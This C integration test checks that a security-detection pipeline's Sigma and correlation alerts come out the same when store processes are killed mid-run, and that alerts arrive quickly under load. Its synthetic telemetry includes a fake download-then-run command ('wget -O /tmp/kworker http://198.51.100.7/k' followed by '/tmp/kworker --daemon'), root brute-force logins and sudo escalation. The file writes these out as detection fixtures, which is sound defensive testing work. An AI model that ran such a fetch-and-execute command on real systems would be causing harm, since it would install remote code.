#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "runtime/clock.h"
#include "tests/support/broker.h"
#include "tests/support/check_main.h"
#include "tests/support/crashes.h"
#include "tests/support/database.h"
#include "tests/support/keeper.h"
#include "tests/support/pipeline.h"
#include "tests/support/senders.h"

/* Detection on a real bus, with two stores: what is found does not depend on who stores it, nor on who is killed meanwhile. */
#define DEVICES 12
#define MESSAGES 60 /* of each device */
#define STORES 2
#define KILLS 6
#define DRAIN_MS 60000
#define ALERT_MS 10000 /* five times what an alert may take */

static struct program *ingest, *stores[STORES];
static uint64_t draws;
static int64_t base_us;

static void setup(void)
{
    draws = crashes_seed();
    base_us = clock_utc_us() / 1000000 * 1000000 - INT64_C(600000000);
    pipeline_open(BUS_KAFKA);
    pipeline_sql("INSERT INTO picket.rule (workspace_id, rule_id, kind, enabled, source) VALUES (1, 'failed', 'sigma', true, E'title: failed\\nid: failed\\nlogsource:"
                 " {product: picket, category: login}\\ndetection:\\n  s: {Result: Fail}\\n  condition: s\\n'), (1, 'spread', 'sigma', true, E'title: spread\\nid: spread\\ncorrelation:\\n"
                 "  type: event_count\\n  rules: [failed]\\n  group-by: [RemoteAddress]\\n  timespan: 5m\\n  condition: {gte: 30}\\n')");
    ingest = pipeline_start("ingest", NULL);
    for (size_t i = 0; i < STORES; i++)
        stores[i] = pipeline_start("store", NULL);
}

static void teardown(void)
{
    pipeline_close();
}

/* What a device does: a mixture whose detections need several of its messages, in their order. */
static void element_print(unsigned device, unsigned number, const char **name, char *out, size_t size)
{
    unsigned kind = number % 5;

    if (kind == 0) {
        *name = "Login";
        snprintf(out, size, "{\"ProcessId\":1,\"Operation\":\"login\",\"Executable\":\"/usr/sbin/dropbear\",\"Result\":\"%s\",\"UserName\":\"root\",\"RemoteAddress\":\"203.0.113.%u\"}",
                 number == 30 ? "Success" : "Fail", device % 3 + 1);
    } else if (kind == 1) {
        *name = "ConnectionCreate";
        snprintf(out, size, "{\"RemoteAddress\":\"198.51.100.%u\",\"RemotePort\":\"23\",\"Direction\":\"Out\",\"Protocol\":\"tcp\",\"ProcessId\":1,\"Executable\":\"/x\"}", number * 3 + 1);
    } else if (kind == 2) {
        *name = "ProcessCreate";
        snprintf(out, size, "{\"Executable\":\"/bin/x\",\"CommandLine\":\"%s\",\"UserId\":\"0\",\"ProcessId\":42,\"ParentProcessId\":1}",
                 number % 2 ? "/tmp/kworker --daemon" : "wget -O /tmp/kworker http://198.51.100.7/k");
    } else if (kind == 3) {
        *name = "ListeningPorts";
        snprintf(out, size, "{\"Protocol\":\"tcp\",\"LocalAddress\":\"0.0.0.0\",\"LocalPort\":\"%u\"}", number < 20 ? 22 : 4000 + number);
    } else {
        *name = "LocalUsers";
        snprintf(out, size, "{\"UserName\":\"admin\",\"UserId\":\"1000\",\"GroupNames\":\"admin%s\",\"GroupIds\":\"1\"}", number > 20 ? ";sudo" : "");
    }
}

static void message_post(unsigned device, unsigned number)
{
    static const char *const headers[] = {"Content-Type: application/json", NULL};
    struct program_reply reply = {.code = 0};
    char element[512], at[CLOCK_TEXT_SIZE], body[2048];
    const char *name;
    int64_t until_ms = clock_monotonic_ms() + PIPELINE_WAIT_MS;

    element_print(device, number, &name, element, sizeof element);
    clock_format(base_us + number * INT64_C(5000000), at);
    snprintf(body, sizeof body,
             "{\"AgentVersion\":\"0.0.6\",\"AgentId\":\"5aebd46d-3a56-4d4f-9f6b-9d5e2a4b6c70\",\"MessageSchemaVersion\":\"1.0\",\"Events\":[{\"Category\":\"Triggered\",\"EventType\":\"Security\","
             "\"Name\":\"%s\",\"PayloadSchemaVersion\":\"1.0\",\"Id\":\"00000000-0000-4000-8000-%06u%06u\",\"TimestampLocal\":\"%s\",\"TimestampUTC\":\"%s\",\"IsEmpty\":false,\"Payload\":[%s]}]}",
             name, device, number, at, at, element);
    while (reply.code != 204) {
        program_reply_done(&reply);
        pipeline_post(device, headers, text_of(body), &reply);
        ck_assert_msg(reply.code == 204 || reply.code == 503, "%ld", reply.code);
        ck_assert(clock_monotonic_ms() < until_ms);
    }
    program_reply_done(&reply);
}

/* All that may not differ: not the ids, which are random. Of correlations over devices, which groups there are: how often one is full depends on when
 * its store came to it. */
static const char *alerts(void)
{
    return pipeline_text("SELECT coalesce((SELECT string_agg(concat_ws(' ', rule_id, cause), E'\\n' ORDER BY cause) FROM picket.alert WHERE rule_id = 'spread'), '') || coalesce(string_agg(concat_ws(' ', device_id, rule_id, cause, severity, repeat_count, hit_count, first_seen_at, last_seen_at, reasons, entities,"
                         " (SELECT string_agg(e.event_id::text, ',' ORDER BY e.event_id) FROM picket.alert_event e WHERE e.alert_id = a.alert_id)), E'\\n'"
                         " ORDER BY device_id, rule_id, cause), '') FROM picket.alert a WHERE device_id <> ''");
}

static void store_crash(void)
{
    size_t which = (size_t)crashes_draw(&draws, STORES);

    pipeline_kill9(stores[which]);
    poll(NULL, 0, (int)crashes_draw(&draws, 300));
    stores[which] = pipeline_launch("store", NULL);
}

START_TEST(kills_in_the_middle_of_windows_leave_the_alerts_of_an_undisturbed_run)
{
    unsigned kills = 0;

    for (unsigned number = 0; number < MESSAGES; number++) {
        for (unsigned device = 0; device < DEVICES; device++)
            message_post(device, number);
        if (number % (MESSAGES / KILLS) == 3 && kills++ < KILLS)
            store_crash();
    }
    pipeline_wait_drained(DRAIN_MS);
    pipeline_wait_number(0, DRAIN_MS, "SELECT count(*) FROM picket.correlation_hit WHERE NOT judged");
    ck_assert_int_eq(pipeline_number("SELECT count(*) FROM picket.alert WHERE rule_id = 'spread'"), 3); /* three addresses try all devices */
    char *disturbed = strdup(alerts());
    ck_assert_int_ge(pipeline_number("SELECT count(DISTINCT rule_id) FROM picket.alert"), 6);
    ck_assert_int_ge(pipeline_number("SELECT count(*) FROM picket.alert"), 5 * DEVICES);
    for (size_t i = 0; i < STORES; i++)
        pipeline_stop(stores[i]);
    /* The same records again, from the beginning, into what knows nothing of them. */
    pipeline_sql("TRUNCATE picket.raw_event, picket.message, picket.dead_letter, picket.bus_offset, picket.device_activity, picket.ledger, picket.alert, picket.alert_event,"
                 " picket.alert_comment, picket.detect_state, picket.observable, picket.event_hour, picket.incident, picket.incident_mark, picket.correlation_hit, picket.address_try");
    for (size_t i = 0; i < STORES; i++)
        stores[i] = pipeline_start("store", NULL);
    pipeline_wait_drained(DRAIN_MS);
    pipeline_wait_number(0, DRAIN_MS, "SELECT count(*) FROM picket.correlation_hit WHERE NOT judged");
    ck_assert_str_eq(alerts(), disturbed);
    free(disturbed);
}
END_TEST

START_TEST(an_alert_is_there_soon_after_its_message_was_acknowledged_under_load)
{
    struct senders *senders = senders_open(DEVICES, 8, draws);

    senders_start(senders);
    for (unsigned i = 0; i < 5; i++) {
        senders_wait(senders, 200);
        message_post(i, 2); /* a download, and then what it brought */
        message_post(i, 7);
        int64_t from_ms = clock_monotonic_ms();
        while (!pipeline_number("SELECT count(*) FROM picket.alert WHERE device_id = 'device-%u' AND rule_id = 'IoT_LinuxBackdoor'", i)) {
            ck_assert_msg(clock_monotonic_ms() - from_ms < ALERT_MS, "no alert after %d ms", ALERT_MS);
            poll(NULL, 0, 5);
        }
    }
    senders_stop(senders);
    senders_settle(senders);
    pipeline_wait_drained(DRAIN_MS);
    senders_close(senders);
}
END_TEST

int main(void)
{
    const TTest *const tests[] = {
        kills_in_the_middle_of_windows_leave_the_alerts_of_an_undisturbed_run,
        an_alert_is_there_soon_after_its_message_was_acknowledged_under_load,
    };
    const struct check_suite suite = {.name = "pipeline/detection", .tests = tests, .count = sizeof tests / sizeof *tests, .setup = setup, .teardown = teardown, .timeout_seconds = 300};

    database_start(DATABASE_FAST);
    broker_start();
    pipeline_prepare(DEVICES);
    return check_main(&suite);
}
